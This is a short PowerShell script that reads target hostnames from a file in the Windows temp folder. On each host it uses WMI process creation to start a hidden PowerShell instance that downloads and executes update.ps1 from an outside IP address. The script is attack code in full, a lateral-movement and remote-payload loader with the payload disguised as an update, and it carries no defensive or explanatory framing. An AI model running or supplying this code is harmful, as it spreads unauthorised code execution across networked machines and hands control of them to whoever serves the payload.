# run 1915 v0
$targets = Get-Content C:\Windows\Temp\hosts.txt
foreach ($t in $targets) {
  Invoke-WmiMethod -ComputerName $t -Class Win32_Process -Name Create -ArgumentList "powershell -nop -w hidden -c iex(iwr http://198.51.100.23/update.ps1)"
}
